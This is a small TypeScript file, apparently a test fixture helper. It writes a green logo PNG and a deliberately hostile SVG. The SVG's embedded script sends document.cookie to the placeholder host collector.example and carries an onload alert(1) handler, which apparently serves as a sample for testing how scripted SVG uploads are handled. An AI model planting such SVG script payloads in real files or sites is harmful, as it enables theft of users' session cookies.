import { writePng } from "./png.ts";

/** A logo of 64 by 64 pixels: a light disc on a green gradient. */
export function writeLogoPng(): Buffer {
  return writePng(64, (x, y) =>
    (x - 31.5) ** 2 + (y - 31.5) ** 2 < 400 ? [244, 240, 226] : [20, 110 - y, 70 - Math.floor(y / 2)],
  );
}

/** An SVG that runs a script if it is opened as an SVG. */
export function writeScriptedSvg(): Buffer {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
      '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">\n' +
      '  <script>fetch("https://collector.example/?c=" + document.cookie)</script>\n' +
      '  <rect width="64" height="64" fill="#146e46" onload="alert(1)"/>\n' +
      "</svg>\n",
  );
}
